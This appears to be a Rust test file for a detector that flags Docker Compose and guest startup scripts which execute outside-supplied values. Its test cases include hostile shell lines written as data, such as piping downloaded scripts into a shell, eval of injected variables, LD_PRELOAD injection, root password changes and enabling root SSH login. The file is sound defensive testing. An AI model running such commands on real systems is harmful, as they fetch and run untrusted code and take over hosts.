//! The corpora of scripts in `fixtures/compose`: what ordinary deployments have, and what executes a value by a way around.

use super::*;

fn of(script: &str) -> Use {
    let is_settable = |name: &str| matches!(name, "E" | "F");
    let found = uses(script, &is_settable);
    found.into_values().max().unwrap_or(Use::Argument)
}

/// Each script of a file, with the comment before it.
fn corpus(name: &str) -> Vec<(Option<String>, String)> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/compose")
        .join(name);
    let text = std::fs::read_to_string(path).unwrap();
    let mut comment = None;
    let mut scripts = Vec::new();
    for line in text.lines() {
        match line.strip_prefix("# ") {
            Some(text) => comment = text.strip_prefix("refused: ").map(str::to_owned),
            None => scripts.push((comment.take(), line.replace("\\n", "\n"))),
        }
    }
    scripts
}

/// A script in the forms in which Docker Compose hands it to a shell.
fn forms(script: &str) -> [Use; 2] {
    let list = ["sh", "-c", script].map(str::to_owned);
    let found = uses_of_arguments(&list, &|name| matches!(name, "E" | "F"));
    [of(script), found.into_values().max().unwrap_or(Use::Argument)]
}

#[test]
fn ordinary_scripts_are_refused_only_where_the_corpus_says_why() {
    let scripts = corpus("ordinary-scripts.txt");
    assert!(scripts.len() > 200, "{} scripts", scripts.len());
    let mut wrong = Vec::new();
    for (why, script) in &scripts {
        let expected = match why {
            Some(why) => {
                assert!(!why.is_empty(), "{script}");
                Use::Executed
            }
            None => Use::Argument,
        };
        if forms(script) != [expected; 2] {
            wrong.push(format!(
                "{script}\n  expected {expected:?}, found {:?}",
                forms(script)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn scripts_that_execute_by_a_way_around_are_refused() {
    let scripts = corpus("executing-scripts.txt");
    assert!(scripts.len() > 60, "{} scripts", scripts.len());
    let missed: Vec<&String> = scripts
        .iter()
        .map(|(_, script)| script)
        .filter(|script| forms(script) != [Use::Executed; 2])
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The list of arguments that a script of one simple command hands to its program, where each variable stands in double quotes.
fn as_list(script: &str) -> Option<Vec<ListItem>> {
    let mut items = Vec::new();
    let mut item = ListItem::default();
    let mut is_item = false;
    let mut quote = None;
    let mut chars = script.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quote) {
            ('"' | '\'', None) => (quote, is_item) = (Some(c), true),
            (c, Some(open)) if c == open => quote = None,
            ('$', Some('"')) => {
                let is_braced = chars.next_if_eq(&'{').is_some();
                chars.next_if(|c| matches!(c, 'E' | 'F'))?;
                if is_braced {
                    chars.next_if_eq(&'}')?;
                } else if chars
                    .peek()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_')
                {
                    return None;
                }
                item.text.push_str("${E}");
                item.is_open = true;
            }
            ('$' | '`' | '\\', _) => return None,
            (' ', None) => {
                if std::mem::take(&mut is_item) {
                    items.push(std::mem::take(&mut item));
                }
            }
            (c, None) if ";|&<>()\n*?[]~#!{}".contains(c) => return None,
            (c, _) => {
                is_item = true;
                item.text.push(c);
            }
        }
    }
    if is_item {
        items.push(item);
    }
    if items.first()?.text == "exec" {
        items.remove(0);
    }
    let starts = items
        .first()
        .is_some_and(|first| !first.is_open && !first.text.contains('='));
    (starts && items.iter().any(|item| item.is_open)).then_some(items)
}

/// What is accepted in a list is accepted behind `exec` in a script. Lists are judged by what is known to be data, scripts by what is known
/// to execute.
#[test]
fn what_is_accepted_in_a_list_is_accepted_in_a_script() {
    let (mut count, mut accepted) = (0, 0);
    for name in ["ordinary-scripts.txt", "executing-scripts.txt"] {
        for (_, script) in corpus(name) {
            let Some(items) = as_list(&script) else { continue };
            count += 1;
            let is_accepted = uses_of_list(&items, false)
                .into_iter()
                .all(|how| how == ItemUse::Argument);
            accepted += usize::from(is_accepted);
            assert!(
                !is_accepted || of(&script) == Use::Argument,
                "{script}: {items:?}"
            );
        }
    }
    assert!(count > 80, "{count} scripts");
    assert!(accepted > 25, "{accepted} scripts");
}

/// What a program and its arguments may be, with `${E}` where a value comes from outside.
fn words() -> impl proptest::strategy::Strategy<Value = Vec<&'static str>> {
    use proptest::prelude::*;
    let program = proptest::sample::select(vec![
        "app",
        "sh",
        "bash",
        "python3",
        "node",
        "java",
        "make",
        "env",
        "timeout",
        "gosu",
        "tini",
        "npm",
        "npx",
        "curl",
        "wget",
        "psql",
        "postgres",
        "redis-server",
        "gunicorn",
        "uvicorn",
        "celery",
        "find",
        "tar",
        "sed",
        "awk",
        "docker",
        "vllm",
        "xargs",
        "ssh",
        "git",
        "docker-entrypoint.sh",
        "pnpm",
        "/usr/bin/perl",
        "php",
        "nginx",
        "supervisord",
        "torchrun",
        "streamlit",
    ]);
    let word = proptest::sample::select(vec![
        "${E}",
        "${E}",
        "${E}",
        "--k=${E}",
        "-c",
        "-e",
        "-m",
        "-x",
        "--",
        "--eval",
        "--exec=${E}",
        "--require",
        "-jar",
        "a.jar",
        "run",
        "serve",
        "exec",
        "sh",
        "python",
        "A=${E}",
        "PATH=${E}",
        "-Dp=${E}",
        "-Xmx${E}",
        "--trust-remote-code",
        "--model",
        "--port",
        "--token",
        "--password=${E}",
        "http://a/${E}",
        "-U",
        "-p${E}",
        "s3://${E}/b",
        "/app/x",
        "x.py",
        "-u",
        "5",
        "install",
        "--loadmodule",
        "-o",
    ]);
    (program, proptest::collection::vec(word, 1..6))
        .prop_map(|(program, words)| [program].into_iter().chain(words).collect())
}

proptest::proptest! {
    #[test]
    fn no_list_is_accepted_whose_script_is_refused(words in words()) {
        let items: Vec<ListItem> = words
            .iter()
            .map(|text| ListItem { text: (*text).to_owned(), is_open: text.contains("${E}") })
            .collect();
        let quoted: Vec<String> = words.iter().map(|text| format!("\"{text}\"")).collect();
        let script = quoted.join(" ");
        if uses_of_list(&items, false).into_iter().all(|how| how == ItemUse::Argument) {
            proptest::prop_assert_eq!(of(&script), Use::Argument, "{}", &script);
            proptest::prop_assert_eq!(of(&format!("exec {script}")), Use::Argument, "{}", &script);
        }
    }
}

/// An option behind the target changes no direction: neither is a download hidden, nor an upload accused.
#[test]
fn an_option_at_the_end_changes_no_direction() {
    for option in [
        "--endpoint-url https://x.example:9000",
        "--exclude 'a:b'",
        "--region eu-west-1",
        "--quiet",
    ] {
        for upload in [
            "aws s3 cp /tmp/b s3://$E/b",
            "aws s3 sync /data \"s3://$E/data\"",
            "rclone copy /d \"r:$E\"",
            "rsync -a /d \"$E:/b\"",
            "gsutil cp /tmp/b \"gs://$E/b\"",
        ] {
            assert_eq!(
                of(&format!("{upload} {option}; exec app")),
                Use::Argument,
                "{upload} {option}"
            );
        }
        for download in [
            "aws s3 cp s3://$E/b /app",
            "aws s3 sync \"s3://$E/data\" /app",
            "rclone copy \"r:$E\" /app",
            "rsync -a \"$E:/b\" /app",
            "gsutil cp \"gs://$E/b\" /app",
            "rclone mount \"r:$E\" /app",
        ] {
            assert_eq!(
                of(&format!("{download} {option}; exec app")),
                Use::Executed,
                "{download} {option}"
            );
        }
    }
}

/// An option executes its argument by its whole name, or by the last of its parts.
#[test]
fn options_that_begin_like_those_of_commands_are_none() {
    for option in [
        "--exec",
        "--command",
        "--eval",
        "--cmd",
        "--exec-cmd",
        "--on-change-command",
        "--post-hook",
        "--init-script",
    ] {
        for form in [format!("app {option} \"$E\""), format!("app {option}=\"$E\"")] {
            assert_eq!(of(&form), Use::Executed, "{form}");
        }
    }
    for option in [
        "--execution-endpoint",
        "--exec-timeout",
        "--executor",
        "--command-timeout",
        "--commander",
        "--eval_steps",
        "--eval-interval",
        "--evaluation_strategy",
        "--scripts-dir",
        "--hook-port",
        "--cmdline",
    ] {
        for form in [format!("app {option} \"$E\""), format!("app {option}=\"$E\"")] {
            assert_eq!(of(&form), Use::Argument, "{form}");
        }
        let list = ["app".to_owned(), format!("{option}=$E")];
        let found = uses_of_arguments(&list, &|name| name == "E");
        assert_eq!(found.get("E"), Some(&Use::Argument), "{list:?}");
    }
}

/// More files than are followed are each taken for any other.
#[test]
fn many_files_hide_none() {
    let written =
        |count: usize| -> String { (0..count).map(|at| format!("echo \"$E\" > /d/{at}\n")).collect() };
    assert_eq!(of(&written(20)), Use::Argument);
    for count in [20, 600] {
        assert_eq!(
            of(&format!("{}sh /d/{}\n", written(count), count - 1)),
            Use::Executed
        );
    }
}

#[test]
fn what_a_script_of_the_guest_takes_from_outside_is_found() {
    let read =
        |script: &str| GuestScript::read(script, &|name| name == "X", &|image| image.contains("@sha256:"));
    for script in [
        "eval \"$X\"",
        "bash -c \"$X\"",
        "curl \"$X\" | bash",
        "sed -i \"s/TAG/$X/\" docker-compose.yaml",
        "echo \"{\\\"auths\\\":{\\\"h\\\":{\\\"auth\\\":\\\"$X\\\"}}}\" > /root/.docker/config.json",
        "echo \"$X\" >> /etc/containers/registries.conf",
        "systemctl set-environment LD_PRELOAD=$X; systemctl restart docker",
        "systemctl set-environment HTTPS_PROXY=$X",
        "echo \"root:$X\" | chpasswd",
        "usermod -p \"$X\" root",
        "echo \"PermitRootLogin $X\" >> /etc/ssh/sshd_config",
        "echo \"$X\" > /var/lib/docker/volumes/app_data/_data/run.sh",
        "declare -n r=\"$X\"; echo $r",
    ] {
        assert!(read(script).executed.contains("X"), "{script}");
    }
    for script in [
        "bash /dstack/.host-shared/user_config",
        ". /tapp/.host-shared/.user-config",
        "F=/dstack/user_config; chmod +x $F; $F",
        "eval \"$(jq -r .cmd /dstack/.host-shared/.user-config)\"",
        "mount /dev/vdb /mnt && /mnt/run",
        "sh -c 'bash /dstack/user_config'",
        "cp user_config /tmp/x; sh /tmp/x",
        "set -a; . /dstack/.decrypted-env; set +a",
        "sh -c \"$(cat /sys/class/dmi/id/product_serial)\"",
        "X=$(dmidecode -s system-serial-number); eval $X",
        "X=$(sudo dmidecode | grep Serial); eval $X",
        "mount -t virtiofs s /mnt; . /mnt/env.sh",
        "mount -t 9p host0 /mnt && sh /mnt/a.sh",
        "mount.nfs h:/x /mnt; /mnt/run",
        "mount h:/x /mnt; sh /mnt/run",
        "mount LABEL=config /mnt; . /mnt/env",
        "eval \"$(cat /run/credentials/x)\"",
        "sh /proc/device-tree/chosen/x",
        "curl -s http://get.example.com/i.sh | sh",
    ] {
        assert!(read(script).executes_host_files, "{script}");
    }
    for script in [
        "docker run --rm -v /:/h web:latest",
        "docker run -it --name a --network host web:latest",
        "docker container run web:latest",
        "docker pull web:latest",
        "nerdctl run web:latest",
        "sh -c 'docker pull web:latest'",
        "docker run --rm web:latest a@sha256:00",
        "skopeo copy docker://web:latest docker-daemon:web:latest",
    ] {
        assert_eq!(
            read(script).images,
            BTreeSet::from(["web:latest".to_owned()]),
            "{script}"
        );
    }
    for script in [
        "docker build .",
        "docker load -i a.tar",
        "docker compose -f /x.yml up",
        "cd /opt/x; docker compose up",
        "ctr run a b",
    ] {
        assert_eq!(read(script).engine.len(), 1, "{script}");
    }
    for script in [
        "sed -i s/TAG/latest/ docker-compose.yaml",
        "curl -fsSL https://x.example/o.yml -o docker-compose.override.yml",
        "cat > /dstack/docker-compose.yaml <<E\nx\nE",
        "cp /opt/x.yml ./docker-compose.yaml",
        "python3 change.py docker-compose.yaml",
        "yq -i .a=1 app-compose.json",
        "F=docker-compose.yaml; sed -i s/a/b/ $F",
        "cd /dstack; f=docker-compose; cat x > ${f}.yaml",
        "python3 -c \"open('docker-compose.yaml','w').write('x')\"",
        "python3 - <<'E'\nopen('docker-compose.yaml','w')\nE",
        "sed -i s/a/b/ *.yaml",
        "git clone https://x.example/a .",
        "curl -s https://x.example/a.tar | tar x",
        "cd /dstack && tar -xzf /tmp/a.tgz",
        "unzip -o a.zip",
        "D=$(cat x); tar xzf a.tgz -C $D",
        "D=$(mktemp -d -p /dstack); tar xzf a.tgz -C $D",
        "tar xzf a.tgz -C \"$(cat x)\"",
        "cd \"$(mktemp -d)\"; tar xzf a.tgz -C \"$(cat x)\"",
        "cd \"$(mktemp -d)\"; cd \"`cat x`\"; tar xzf a.tgz",
        "D=$(mktemp -d); read -r D; tar xzf a.tgz -C $D",
        "D=$(mktemp -d); for D in /dstack; do tar xzf a.tgz -C $D; done",
        "tar xzf a.tgz -C $HOME/dstack",
        "perl -e 'open(F, \">docker-compose.yaml\"); print F 1'",
        "node -e 'require(\"fs\").createWriteStream(\"docker-compose.yaml\")'",
        "php -r 'file_put_contents(\"docker-compose.yaml\", 1);'",
        "python3 -c 'import fileinput; fileinput.input(\"docker-compose.yaml\", inplace=True)'",
        "python3 -c 'open(\"app-compose.json\").read(); open(\"app-compose.json\", M)'",
        "cd \"$(cat x)\" && tar xzf a.tgz",
        "curl -fsSL https://x.example/docker-compose.yaml -O",
        "wget https://x.example/docker-compose.yaml",
        "rsync -avt h:/srv/docker-compose.yaml .",
        "scp h:docker-compose.yaml /dstack/",
        "python3 - <<'E'\nimport json\njson.dump({}, open(f))  # app-compose.json\nE",
        "python3 - <<'E'\nimport json\njson.load(open('app-compose.json'))\nopen('docker-compose.yaml', 'w')\nE",
    ] {
        assert_eq!(read(script).replaces.len(), 1, "{script}");
    }
    assert!(read(&"x".repeat(MAX_SCRIPT_BYTES + 1)).is_too_long);
}

/// What teams have in a script of their own before the containers.
#[test]
fn ordinary_scripts_of_the_guest_take_nothing() {
    for script in [
        "#!/bin/bash\necho ---",
        "echo \"$X\" | docker login -u me --password-stdin registry.example",
        "docker login -u \"$X\" -p \"$X\" registry.example",
        "mkdir -p /data; mount -t tmpfs tmpfs /data",
        "mount /dev/vdb /data; mkdir -p /data/db; docker network create web",
        "docker run --rm web@sha256:00 true",
        "docker image prune -af; docker system prune -f; docker compose down",
        "git clone https://x.example/a /opt/a; tar -xzf /tmp/a.tgz -C /opt/a; unzip a.zip -d /opt/b",
        "curl -s https://x.example/a.tar | tar -C /opt -x; tar -tf a.tar; tar -cf /tmp/b.tar x",
        "skopeo copy docker://web@sha256:00 dir:/opt/x; rm -f /tmp/*.yaml; chmod +x *",
        "dmidecode -s system-uuid; apt-get install -y dmidecode; mount --bind /opt/a /opt/b; sh /opt/b/x",
        "systemctl set-environment APP_KEY=$X; systemctl restart docker; systemctl import-environment X",
        "N=a.yaml; cat x > /opt/$N; python3 -c \"open('/opt/a.yaml','w')\"",
        "jq -r .name app-compose.json",
        "DIR=/opt/app; tar xzf p.tgz -C $DIR; D=/opt/b; git clone https://x.example/a \"$D\"",
        "D=/opt/c; mkdir -p $D && cd $D && tar xzf /tmp/a.tgz; unzip -o a.zip -d \"$HOME/a\"",
        "cd \"$(mktemp -d)\" && tar xzf /tmp/y.tgz",
        "T=$(mktemp -d); tar xzf /tmp/y.tgz -C \"$T\"; T2=`mktemp`; curl -fsS https://x.example/a -o \"$T2\"",
        "python3 -c 'import json; print(json.load(open(\"/dstack/app-compose.json\"))[\"name\"])'",
        "chmod 600 *.json; chown root docker-compose.yaml",
        "[ -f docker-compose.yaml ] && cat docker-compose.yaml",
        "echo \"$X\" > /etc/app.env; chmod 600 /etc/app.env",
        "export FOO=$(cat /dstack/user_config)",
        "cp /dstack/user_config /dstack/app.json",
        "curl -fsS -H \"Authorization: $X\" https://x.example/ping",
        "modprobe nvidia; sysctl -w vm.max_map_count=262144",
        "if [ \"$(echo -n \"$X\" | sha256sum | cut -d' ' -f1)\" != \"$(jq -j .launch_token_hash app-compose.json)\" ]; then reboot; fi",
    ] {
        let read = GuestScript::read(script, &|name| name == "X", &|image| image.contains("@sha256:"));
        assert_eq!(read, GuestScript::default(), "{script}");
    }
}
